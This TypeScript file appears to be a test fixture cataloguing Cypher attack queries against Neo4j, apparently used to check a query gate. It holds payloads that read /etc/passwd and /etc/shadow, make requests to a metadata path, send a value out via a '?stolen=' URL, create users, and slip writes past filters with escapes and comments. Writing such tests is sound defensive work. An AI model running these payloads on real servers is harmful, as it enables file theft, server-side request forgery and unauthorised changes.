/**
 * Attacks on a Neo4j server by way of a query, by class. `without` says what the server makes of one that meets no
 * gate, with the rights that a reader may well have: `runs` (it does it), `writes` (it does it in a session that may
 * write), `asks` (it fetches the address), `opens` (it opens the file, or tries to), `lacks` (this edition, or a server
 * without plug-ins, has no such thing; others do). `{http}` stands for an address on loopback that counts who comes.
 */
export interface Attack {
  cypher: string;
  without: "runs" | "writes" | "asks" | "opens" | "lacks";
  params?: Readonly<Record<string, unknown>>;
  /** First server that has it, as its major and minor version; older ones lack it. */
  since?: readonly [number, number];
  /** The language in which it is one. A database has one of the two by default, so the gate sees it without its prefix. */
  language?: 5 | 25;
}

const of =
  (without: Attack["without"]) =>
  (cypher: string, params?: Attack["params"]): Attack => ({
    cypher,
    without,
    ...(params === undefined ? {} : { params }),
  });
const since = (major: number, minor: number, attack: Attack): Attack => ({
  ...attack,
  since: [major, minor],
});
/** https://neo4j.com/docs/cypher-manual/25/deprecations-additions-removals-compatibility/ */
const cypher25 = (attack: Attack): Attack => ({ since: [2025, 6], ...attack, language: 25 });
const cypher5 = (attack: Attack): Attack => ({ ...attack, language: 5 });
const runs = of("runs");
const writes = of("writes");
const asks = of("asks");
const opens = of("opens");
const lacks = of("lacks");

export const ATTACKS: Readonly<Record<string, readonly Attack[]>> = {
  "reading files of the server": [
    opens("LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line"),
    opens("LOAD CSV WITH HEADERS FROM 'file:///../conf/neo4j.conf' AS line RETURN line"),
    opens("LOAD CSV FROM $url AS line RETURN line", { url: "file:///etc/shadow" }),
    opens("UNWIND ['file:///x'] AS u LOAD CSV FROM u AS line RETURN line"),
    opens("LOAD CSV FROM 'file:///x' AS line FIELDTERMINATOR ';' RETURN line"),
    opens("WITH 1 AS x LOAD CSV FROM 'file:///x' AS line RETURN line"),
  ],
  "reaching the network": [
    asks("LOAD CSV FROM '{http}/latest/meta-data' AS line RETURN line"),
    asks("LOAD CSV FROM $url AS line RETURN line", { url: "{http}/parameter" }),
    asks("WITH '{http}/' + 'joined' AS u LOAD CSV FROM u AS line RETURN line"),
    asks("CALL { LOAD CSV FROM '{http}/inside' AS line RETURN line } RETURN line"),
    asks("UNWIND ['a'] AS secret LOAD CSV FROM '{http}/?stolen=' + secret AS line RETURN line"),
    asks("LOAD/* */CSV FROM '{http}/commented' AS line RETURN line"),
    asks("lOaD cSv fRoM '{http}/case' aS line rEtUrN line"),
  ],
  "writing to the graph": [
    writes("CREATE (n:Attack) RETURN n"),
    writes("MERGE (n:Attack {id: 1}) RETURN n"),
    since(5, 18, writes("INSERT (n:Attack {id: 1})")),
    writes("MATCH (n:Attack) SET n.name = 'x'"),
    writes("MATCH (n:Attack) REMOVE n.name"),
    writes("MATCH (n:Attack) DELETE n"),
    writes("MATCH (n:Attack) DETACH DELETE n"),
    since(5, 14, writes("MATCH (n:Attack) NODETACH DELETE n")),
    writes("FOREACH (x IN [1] | CREATE (:Attack))"),
    writes("MATCH (a:Attack) WITH a CREATE (a)-[:X]->(:Attack)"),
  ],
  "writing inside a subquery": [
    writes("CALL { CREATE (n:Attack) RETURN n } RETURN n"),
    since(5, 23, writes("UNWIND [1, 2] AS x CALL (x) { MERGE (n:Attack {id: x}) RETURN n } RETURN n")),
    writes("UNWIND [1] AS x CALL { WITH x CREATE (:Attack {id: x}) } RETURN x"),
    since(5, 24, writes("OPTIONAL CALL { CREATE (n:Attack) RETURN n } RETURN n")),
    lacks("RETURN COUNT { CREATE (n:Attack) RETURN n }"),
    lacks("MATCH (a:Attack) WHERE EXISTS { SET a.x = 1 } RETURN a"),
  ],
  "transactions of their own": [
    runs("UNWIND [1] AS x CALL { WITH x RETURN x AS y } IN TRANSACTIONS RETURN y"),
    since(
      5,
      23,
      runs("UNWIND [1] AS x CALL (x) { RETURN x AS y } IN 2 CONCURRENT TRANSACTIONS OF 1 ROW RETURN y"),
    ),
    since(
      5,
      23,
      runs("UNWIND [1] AS x CALL (x) { RETURN x AS y } IN TRANSACTIONS OF 1 ROWS ON ERROR CONTINUE RETURN y"),
    ),
    lacks("USING PERIODIC COMMIT LOAD CSV FROM 'file:///x' AS line RETURN line"),
    lacks("BEGIN RETURN 1"),
    lacks("COMMIT"),
  ],
  "changing the schema": [
    writes("CREATE INDEX attack IF NOT EXISTS FOR (n:Attack) ON (n.x)"),
    writes("DROP INDEX attack IF EXISTS"),
    writes("CREATE CONSTRAINT attack IF NOT EXISTS FOR (n:Attack) REQUIRE n.y IS UNIQUE"),
    writes("DROP CONSTRAINT attack IF EXISTS"),
    writes("CREATE FULLTEXT INDEX attack_text IF NOT EXISTS FOR (n:Attack) ON EACH [n.x]"),
    writes("DROP INDEX attack_text IF EXISTS"),
  ],
  "procedures that write": [
    writes("CALL db.createLabel('Attack')"),
    writes("CALL db.createRelationshipType('ATTACK')"),
    writes("CALL db.createProperty('attack')"),
    runs("CALL db.clearQueryCaches() YIELD value RETURN value"),
    runs("CALL db.prepareForReplanning(1)"),
    runs("CALL tx.setMetaData({a: 1})"),
    runs("CALL db.resampleOutdatedIndexes()"),
    lacks("CALL db.create.setNodeVectorProperty(null, 'x', [1.0])"),
  ],
  "procedures that read the server": [
    runs("CALL dbms.listConfig() YIELD name, value RETURN name, value"),
    runs("CALL dbms.components() YIELD name RETURN name"),
    runs("CALL dbms.info() YIELD id RETURN id"),
    runs("CALL db.info() YIELD id RETURN id"),
    runs("CALL dbms.queryJmx('java.lang:*') YIELD name RETURN name"),
    runs("CALL dbms.listConnections() YIELD connectionId, clientAddress RETURN clientAddress"),
    runs("CALL dbms.showCurrentUser() YIELD username RETURN username"),
    runs("CALL db.stats.retrieve('GRAPH COUNTS') YIELD data RETURN data"),
    runs("CALL dbms.listCapabilities() YIELD name RETURN name"),
    // Measured: not registered on 2025.12, though its jars have them.
    since(2026, 8, runs("CALL fleetManagement.status()")),
    since(2026, 8, runs("CALL fleetManagement.reportedData()")),
    runs("CALL `dbms`.`listConfig`() YIELD name RETURN name"),
  ],
  "plug-ins": [
    lacks("CALL apoc.load.json('http://127.0.0.1/') YIELD value RETURN value"),
    lacks("CALL apoc.cypher.runWrite('CREATE (n)', {}) YIELD value RETURN value"),
    lacks("CALL apoc.export.csv.all('out.csv', {})"),
    lacks("CALL apoc.periodic.commit('MATCH (n) DELETE n', {})"),
    lacks("RETURN apoc.util.sleep(10)"),
    lacks("RETURN `apoc`.`load`.`json`('x')"),
    lacks("CALL gds.graph.project('g', '*', '*')"),
  ],
  administration: [
    runs("SHOW DATABASES"),
    runs("SHOW PROCEDURES"),
    runs("SHOW FUNCTIONS YIELD name"),
    runs("SHOW SETTINGS YIELD name, value"),
    runs("SHOW TRANSACTIONS"),
    runs("SHOW INDEXES"),
    runs("SHOW USERS"),
    runs("SHOW CURRENT USER"),
    runs("TERMINATE TRANSACTIONS 'neo4j-transaction-1'"),
    writes("CREATE USER attack_user IF NOT EXISTS SET PASSWORD 'long-enough' CHANGE NOT REQUIRED"),
    writes("ALTER USER attack_user SET PASSWORD 'long-enough-2'"),
    writes("DROP USER attack_user IF EXISTS"),
    lacks("CREATE DATABASE attack"),
    lacks("STOP DATABASE neo4j"),
    lacks("GRANT ROLE admin TO attack_user"),
  ],
  "another database": [
    runs("USE neo4j MATCH (n:Attack) RETURN n"),
    lacks("USE system SHOW USERS"),
    lacks("USE graph.byName('system') MATCH (n) RETURN n"),
    lacks(":use system"),
  ],
  "two statements": [
    lacks("RETURN 1; RETURN 2"),
    lacks("RETURN 1; CREATE (n:Attack)"),
    lacks("RETURN 1; // quiet\nMATCH (n:Attack) DELETE n"),
    lacks("; RETURN 1; ;"),
  ],
  "running under another name": [
    runs("EXPLAIN CREATE (n:Attack)"),
    writes("PROFILE CREATE (n:Attack)"),
    writes("CYPHER runtime=slotted CREATE (n:Attack)"),
    since(5, 21, writes("CYPHER 5 CREATE (n:Attack)")),
    since(2025, 6, writes("CYPHER 25 CREATE (n:Attack)")),
    writes("CYPHER planner=cost PROFILE MERGE (n:Attack)"),
  ],
  "escapes, comments and odd letters": [
    writes("CR\\u0045ATE (n:Attack)"),
    writes("RETURN 1 AS x //\\u000aUNION CREATE (n:Attack) RETURN 1 AS x"),
    writes("WITH '\\u0027 AS x CREATE (n:Attack) RETURN n //'"),
    writes("WITH 1 AS x /* \\u002a\\u002f CREATE (n:Attack) RETURN x /* */"),
    writes("CREATE\u00a0(n:Attack)"),
    writes("CREATE\u2028(n:Attack)"),
    writes("WITH 1 AS x // quiet\rCREATE (n:Attack)"),
    writes("WITH 1 AS `//` CREATE (n:Attack)"),
    lacks("CRE\u200bATE (n:Attack)"),
  ],
  "clauses of Cypher 25": [
    cypher25(writes("UNWIND [1] AS x FILTER x = 1 CREATE (:Attack)")),
    cypher25(writes("LET x = 1 CREATE (:Attack {id: x})")),
    cypher25(since(2026, 4, writes("FOR x IN [1] CREATE (:Attack {id: x})"))),
    cypher25(writes("RETURN 1 AS x NEXT CREATE (:Attack {id: x})")),
    cypher25(writes("WHEN true THEN CREATE (:Attack)")),
    cypher25(writes("WHEN true THEN { CREATE (:Attack) RETURN 1 AS x } ELSE RETURN 2 AS x")),
    cypher25(writes("{ CREATE (:Attack) RETURN 1 AS x }")),
    cypher25(writes("CREATE (:Attack) MATCH (n:Attack) RETURN n")),
    cypher25(writes("RETURN 1 AS x NEXT CALL (x) { CREATE (:Attack {id: x}) RETURN 1 AS y } RETURN y")),
    cypher25(opens("LET u = 'file:///x' LOAD CSV FROM u AS line RETURN line")),
    cypher25(opens("RETURN 'file:///x' AS u NEXT LOAD CSV FROM u AS line RETURN line")),
    cypher25(asks("LET u = '{http}/let' LOAD CSV FROM u AS line RETURN line")),
    cypher25(asks("WHEN true THEN LOAD CSV FROM '{http}/when' AS line RETURN line")),
    cypher25(runs("RETURN 1 AS x NEXT CALL dbms.listConfig() YIELD name RETURN name")),
    cypher25(runs("MATCH REPEATABLE ELEMENTS (a:Attack)--{1,30}(b) RETURN count(*)")),
    cypher25(
      runs("UNWIND [1] AS x CALL (x) { RETURN 2 AS y } IN TRANSACTIONS ON ERROR RETRY THEN FAIL RETURN y"),
    ),
    cypher25(lacks("MATCH (n:Attack) SEARCH n IN (VECTOR INDEX attack FOR [1.0] LIMIT 1) RETURN n")),
    cypher25(lacks("DEFINE FUNCTION size(x) = x RETURN size(1)")),
    cypher25(lacks("ALTER CURRENT GRAPH TYPE SET { }")),
    lacks("RETURN ai.text.embed('x', 'openai', {token: 'x'}) AS vector"),
    lacks("RETURN genai.vector.encode('x', 'OpenAI', {token: 'x'}) AS vector"),
  ],
  "what the two languages read differently": [
    // One parameter to Cypher 25, a parameter and an operator to Cypher 5.
    cypher25(writes("MATCH (n:Nobody) WHERE $0OR DELETE [n][0]", { "0OR": true })),
    // A letter to Cypher 5, a blank to Cypher 25.
    cypher5(writes("MATCH (n:Nobody) WHERE n.a\u0085OR DELETE [n][0]")),
    cypher25(writes("CREATE\u0085(n:Attack)")),
    // Names that look like an expression which goes on.
    cypher25(writes("MATCH (CASE:Nobody) RETURN CASE NEXT WHEN true THEN DELETE [CASE][0]")),
  ],
  parameters: [
    since(5, 26, runs("MATCH (n:$($label)) RETURN n", { label: "Attack" })),
    since(5, 26, runs("MATCH (n:$any($labels)) RETURN n", { labels: ["Attack"] })),
    since(5, 26, writes("CREATE (n:$($label))", { label: "Attack" })),
    since(5, 24, writes("MATCH (n:Attack) SET n[$name] = 1", { name: "id" })),
    writes("CREATE (n:Attack $props)", { props: { id: 1 } }),
    lacks("CALL $procedure()", { procedure: "dbms.listConfig" }),
  ],
  "walks without an end": [
    runs("MATCH p = (a:Attack)-[*]-(b) RETURN p"),
    runs("MATCH p = (a:Attack)-[*1..]->(b) RETURN p"),
    runs("MATCH p = (a:Attack)--+(b) RETURN p"),
    runs("MATCH p = (a:Attack)((x)-->(y))*(b) RETURN p"),
    since(5, 21, runs("MATCH p = SHORTEST 5 (a:Attack)-->{1,}(b) RETURN p")),
  ],
};
